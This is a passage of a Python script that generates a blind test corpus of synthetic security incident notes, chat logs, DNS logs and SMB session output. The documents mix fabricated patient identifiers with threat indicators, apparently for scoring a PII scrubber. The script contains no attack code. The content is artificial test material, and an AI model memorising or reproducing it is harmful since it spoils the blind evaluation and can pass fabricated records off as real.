    "ga_IE": "Tuairisc ar theagmhas {dt}\nOthar: {pn}, PPSN {nid}, guthán {ph}, seoladh {a}, {ci}.\nD'oscail an fostaí {sn} ({u}) ceangaltán ar {h} ({ip}); cheangail {m} le {atk}. Glao calaoiseach ó {ap}.\nTeicníc: {t}. Scríofa ag {s2}.\n",
    "af_ZA": "Voorvalverslag {dt}\nPasiënt: {pn}, ID-nommer {nid}, selfoon {ph}, adres {a}, {ci}.\nWerknemer {sn} ({u}) het 'n aanhegsel op {h} ({ip}) oopgemaak; {m} het met {atk} verbind. Bedrogoproep vanaf {ap}.\nTegniek: {t}. Opgestel deur {s2}.\n",
    "mk_MK": "Извештај за инцидент {dt}\nПациент: {pn}, ЕМБГ {nid}, тел. {ph}, адреса {a}, {ci}.\nВработениот {sn} ({u}) отвори прилог на {h} ({ip}); {m} се поврза со {atk}. Лажен повик од {ap}.\nТехника: {t}. Подготвил: {s2}.\n",
    "zh_TW": "資安事件通報 {dt}\n病人：{pn}，身分證字號 {nid}，健保卡號 {hp}，電話 {ph}，地址：{ci}市{a}。\n員工 {sn}（{u}）在 {h}（{ip}）開啟附件；{m} 連線至 {atk}。詐騙電話來自 {ap}。\n技術：{t}。填表人：{s2}。\n",
}
NOTE_STYLE = {"is_IS": "incident-note-is", "et_EE": "incident-note-et", "lv_LV": "incident-note-lv", "lt_LT": "incident-note-lt",
              "sl_SI": "incident-note-sl", "bg_BG": "incident-note-bg", "ca_ES": "incident-note-ca", "eu_ES": "incident-note-eu",
              "sw_KE": "incident-note-sw", "bn_BD": "incident-note-bn", "ur_PK": "incident-note-ur", "ga_IE": "incident-note-ga",
              "af_ZA": "incident-note-af", "mk_MK": "incident-note-mk", "zh_TW": "incident-note-zh-tw"}


def make_note(loc):
    def fn():
        o, p, s, s2 = Org(loc), P(loc), P(loc), P(loc)
        sn = s.n(ch(["full", "init", "LF"])) if ind.is_latin(s.full) else s.n()
        d = F(NOTES[loc], dt=N(f"{BASE:%Y-%m-%d}", "LOGTIME"), pn=p.n(ch(["full", "LF"])) if ind.is_latin(p.full) else p.n(), nid=natid(loc, p),
              hp=health_no(loc), ph=phone(loc), a=I(ADDR[loc](), "ADDRESS"), ci=city(loc), sn=sn, u=s.user(), h=o.host(ch([True, False])), ip=priv(),
              m=ch([mal, ransom])(), atk=ch([pub, dom, lambda: url(True)])(), ap=aphone(loc), t=mitre(), s2=s2.n())
        return d, loc, o
    return fn


for _loc, _st in NOTE_STYLE.items():
    style(_st)(make_note(_loc))


@style("chat-fil-taglish")
def s_fil():
    o, c = Org("fil_PH"), Clock()
    a, b, p, s = P("fil_PH"), P("fil_PH"), P("fil_PH"), P("fil_PH")
    d = Doc()
    lines = [(a, F("uy may tumawag daw sa ER from {ap}, nagpapanggap na PhilHealth, hinihingi yung PIN ni {pn}", ap=aphone("fil_PH"), pn=p.n())),
             (b, F("yung pasyente sa bed 12? PhilHealth no. niya {hp}, cell {ph}, taga {ci}", hp=health_no("fil_PH"), ph=phone("fil_PH"), ci=city("fil_PH"))),
             (a, F("oo si {f}. tapos may link pa na sinend sa kanya {u}", f=p.n("first"), u=url(True))),
             (b, F("report mo kay {s}, naka-block na yung {ip} sa firewall", s=s.n(), ip=pub()))]
    for who, txt in lines:
        d.fill("[{t}] {w}: ", t=N(c.tick(30, 300).strftime("%m/%d/%y, %I:%M %p"), "CHAT_TIME"), w=who.n("first")).put(txt).t("\n")
    return d, "fil_PH", o


@style("pihole-query-log")
def s_pihole():
    o, c = Org(), Clock()
    d = Doc()
    for i in range(rng.randint(5, 7)):
        t = LT(c.tick(1, 30), "%b %d %H:%M:%S")
        k = rng.random()
        if k < 0.4:
            d.fill("{t} dnsmasq[{pid}]: query[A] {q} from {ip}\n", t=t, pid="812", q=dom(), ip=priv())
        elif k < 0.7:
            d.fill("{t} dnsmasq[{pid}]: gravity blocked {q} is 0.0.0.0\n", t=t, pid="812", q=dom())
        else:
            d.fill("{t} dnsmasq[{pid}]: query[PTR] {r} from {ip}\n", t=t, pid="812", r=o.host(True), ip=priv())
    return d, "en_US", o


@style("get-smbsession-output")
def s_smb():
    o, c = Org(), Clock()
    d = F("PS C:\\> Get-SmbSession -CimSession {h} | ft ClientComputerName,ClientUserName,NumOpens,SecondsExists\n\nClientComputerName ClientUserName              NumOpens SecondsExists\n------------------ --------------              -------- -------------\n", h=o.host())
    for i in range(rng.randint(3, 5)):
        p = P()
        d.fill("{ip}{nb}\\{u}{n}\n", ip=pad(priv(), 19), nb=I(o.nb, "HOSTNAME"), u=pad(p.user(), 28 - len(o.nb) - 1), n=f"{rng.randint(0, 40):>8} {rng.randint(10, 99999):>13}")
    d.fill("{ip}{nb}\\{sv}                 4187        212\n# {sv2} enumerating shares via {m} ({t}); the first address is a VPN pool lease, the session behind it came in from {ap}\n",
           ip=pad(priv(), 19), nb=I(o.nb, "HOSTNAME"), sv=I("svc_scan", "USERNAME"), sv2=I("svc_scan", "USERNAME"), m=X("AdFind", "MALWARE"), t=X("T1135", "MITRE"), ap=pub())
    return d, "en_US", o


# ---------------------------------------------------------------- self-test

MAL_NAMES = set(ind.RANSOM + ind.MALWARE)
SHAPES = {
    "MD5": re.compile(r"^[0-9a-fA-F]{32}$"), "SHA1": re.compile(r"^[0-9a-fA-F]{40}$"),
    "SHA256": re.compile(r"^[0-9a-fA-F]{64}$"), "CVE": re.compile(r"^CVE-\d{4}-\d{4,7}$"),
    "MITRE": re.compile(r"^T\d{4}(\.\d{3})?$"), "URL": re.compile(r"^(https?|hxxps?)://\S+$"),
    "DOMAIN": re.compile(r"^[a-z0-9.\[\]-]+\.[a-z]{2,}$"), "WALLET": re.compile(r"^(bc1q[0-9a-z]{38}|4[1-9A-HJ-NP-Za-km-z]{94})$"),
    "EMAIL_ATTACKER": re.compile(r"^[^@\s]+@[^@\s]+\.[a-z]{2,}$"),
}


def _covered(spans, a, b):
    return any(s <= a and b <= e for s, e in spans)


def selftest(rec, kind="text"):
    errs = []
    text = rec["text"]
    n = len(text)
    ids = [(s["start"], s["end"], s["type"]) for s in rec["identifiers"]]
    inds = [(s["start"], s["end"], s["type"]) for s in rec["indicators"]]
    neus = [(s["start"], s["end"], s["type"]) for s in rec.get("neutral", [])]
    allsp = sorted(ids + inds + neus)
    for a, b, t in allsp:
        if not (0 <= a < b <= n):
            errs.append(f"span out of range {a}-{b} {t}")
    for (a1, b1, t1), (a2, b2, t2) in zip(allsp, allsp[1:]):
        if a2 < b1:
            errs.append(f"overlap {a1}-{b1} {t1} / {a2}-{b2} {t2}")
    if errs:
        return errs
    idtext = {text[a:b] for a, b, _ in ids}
    indtext = {text[a:b] for a, b, _ in inds}
    for t in idtext & indtext:
        errs.append(f"both identifier and indicator: {t!r}")
    for a, b, t in ids:
        if t == "IP":
            try:
                if not ipaddress.ip_address(text[a:b]).is_private:
                    errs.append(f"public identifier IP {text[a:b]}")
            except ValueError:
                errs.append(f"bad IP {text[a:b]}")
    for a, b, t in inds:
        v = text[a:b]
        if t in ("IPV4", "IPV6"):
            try:
                ip = ipaddress.ip_address(v.replace("[.]", ".").replace("[:]", ":"))
                if not ip.is_global:
                    errs.append(f"non-public indicator IP {v}")
            except ValueError:
                errs.append(f"bad indicator IP {v}")
        elif t == "MALWARE" and v not in MAL_NAMES:
            errs.append(f"unknown malware {v}")
        elif t in SHAPES and not SHAPES[t].match(v):
            errs.append(f"bad {t} shape {v}")
    cov = [(a, b) for a, b, _ in ids]
    probes = set(idtext)
    for a, b, t in ids:
        if t == "NAME":
            for part in re.split(r"\W+", text[a:b]):
                if len(part) >= 4:
                    probes.add(part)
    for pr in sorted(probes):
        pats = [re.compile(r"(?<!\w)" + re.escape(pr) + r"(?!\w)", re.I)]
        if not ind.is_latin(pr):
            pats.append(re.compile(re.escape(pr)))
        for pat in pats:
            for m in pat.finditer(text):
                if not _covered(cov, m.start(), m.end()):
                    errs.append(f"uncovered mention of {pr!r} at {m.start()}")
                    break
    org = rec.get("org") or {}
    for s in [org.get("name")] + list(org.get("domains", [])):
        if not s:
            continue
        for m in re.finditer(re.escape(s), text, re.I):
            if not _covered(cov, m.start(), m.end()):
                errs.append(f"organization string {s!r} outside an identifier at {m.start()}")
                break
    try:
        if kind == "json":
            json.loads(text)
        elif kind == "jsonl":
            for line in text.splitlines():
                if line.strip():
                    json.loads(line)
    except ValueError as e:
        errs.append(f"does not parse: {e}")
    return errs


def selftest_selftest():
    """Hand-made failures: each must be refused."""
    def mk(text, ids=(), inds=(), org=None):
        r = {"text": text, "identifiers": [{"start": a, "end": b, "type": t} for a, b, t in ids],
             "indicators": [{"start": a, "end": b, "type": t} for a, b, t in inds]}
        if org:
            r["org"] = org
        return r
    cases = {
        "uncovered surname": (mk("Pt Anna Kowalski seen. Kowalski left.", [(3, 16, "NAME")]), "text"),
        "user name in capitals": (mk("user jdoe logged on; JDOE again", [(5, 9, "USERNAME")]), "text"),
        "org domain in plain text": (mk("mail a@x.org or see x.org", [(5, 12, "EMAIL")], org={"name": "Y", "domains": ["x.org"]}), "text"),
        "org name in plain text": (mk("Acme Clinic sent it", org={"name": "Acme Clinic", "domains": ["acme.org"]}), "text"),
        "public identifier IP": (mk("from 8.8.8.8", [(5, 12, "IP")]), "text"),
        "private indicator IP": (mk("from 10.1.2.3", inds=[(5, 13, "IPV4")]), "text"),
        "overlap": (mk("Anna Kowalski", [(0, 13, "NAME")], [(5, 13, "MALWARE")]), "text"),
        "out of range": (mk("Anna", [(0, 9, "NAME")]), "text"),
        "same text both": (mk("Play and Play", [(0, 4, "NAME")], [(9, 13, "MALWARE")]), "text"),
        "truncated JSON": (mk('{"a": "b"'), "json"),
        "non-Latin name inside text": (mk("病人王小明今天王小明", [(2, 5, "NAME")]), "text"),
        "bad hash shape": (mk("hash abc123", inds=[(5, 11, "SHA256")]), "text"),
    }
    for name, (rec, kind) in cases.items():
        assert selftest(rec, kind), f"self-test accepted a hand-made failure: {name}"
    good = mk("Pt Anna Kowalski (Kowalski) from 10.0.0.1", [(3, 16, "NAME"), (18, 26, "NAME"), (33, 41, "IP")])
    assert not selftest(good), selftest(good)
    return len(cases)


# ---------------------------------------------------------------- build

NOTES_MD = ("A ninth blind corpus, written without opening the scrubber, its results, score.py, the other "
            "generators or the other corpora. Conventions: `README.md` in this directory.")


def build():
    slots = [(st, k) for st in STYLES for k in range(PER_STYLE)]
    rng.shuffle(slots)
    recs, redraws = [], 0
    for i, ((name, kind, fn), _) in enumerate(slots):
        for attempt in range(60):
            doc, loc, o = fn()
            rec = record(f"blind9-{i + 1:04d}", doc, name, loc, o.dict())
            errs = selftest(rec, kind)
            if not errs:
                break
            redraws += 1
        else:
            raise SystemExit(f"{name}: no valid document after 60 draws: {errs[:3]}")
        recs.append(rec)
    return recs, redraws


def main():
    n_cases = selftest_selftest()
    recs, redraws = build()
    check = "--check" in sys.argv
    out, man = OUT, MAN
    if check:
        import tempfile
        tmp = tempfile.mkdtemp()
        out, man = os.path.join(tmp, "blind9.jsonl"), os.path.join(tmp, "MANIFEST.md")
    else:
        os.makedirs(os.path.dirname(OUT), exist_ok=True)
    sha = write_corpus(out, recs)
    manifest(man, "blind9 manifest", "blind9/blind9.jsonl", SEED, "gen/gen_blind9.py", recs, NOTES_MD)
    nid = sum(len(r["identifiers"]) for r in recs)
    nind = sum(len(r["indicators"]) for r in recs)
    nneu = sum(len(r.get("neutral", [])) for r in recs)
    print(f"{len(recs)} documents, {len({r['style'] for r in recs})} styles, {nid} identifiers, {nind} indicators, "
          f"{nneu} neutral; {redraws} redrawn; self-test refused {n_cases} hand-made failures; sha256 {sha}")
    if check:
        same = True
        for a, b in ((out, OUT), (man, MAN)):
            with open(a, "rb") as f1, open(b, "rb") as f2:
                if f1.read() != f2.read():
                    print(f"DIFFERS: {os.path.basename(b)}")
                    same = False
        for p in (out, man):
            os.remove(p)
        os.rmdir(os.path.dirname(out))
        if not same:
            sys.exit(1)
        print("check: blind9.jsonl and MANIFEST.md match the generator")


if __name__ == "__main__":
    main()
